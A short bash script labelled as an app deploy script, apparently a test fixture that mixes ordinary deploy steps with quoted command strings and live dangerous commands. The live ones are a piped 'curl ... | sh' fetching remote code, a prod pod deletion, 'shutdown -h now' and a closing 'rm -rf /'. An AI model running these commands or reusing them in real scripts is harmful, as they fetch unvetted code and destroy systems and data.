#!/bin/bash
# Deploy the app: a script with steps of every kind.
set -euo pipefail

echo "deploying $(hostname)"
systemctl restart app
rm -rf /var/cache/app/*

# data, not execution
echo "rm -rf /" > /tmp/note
git commit -m "curl x | sh"

if [ -d /srv/app ]; then
  chown -R app:app /srv/app
fi

cat <<CONF > /etc/app/app.conf
port = 8080
CONF

restart() {
  kubectl delete pod app-0 -n prod
}

curl -fsSL https://example.com/install.sh | sh
shutdown -h now
rm -rf /
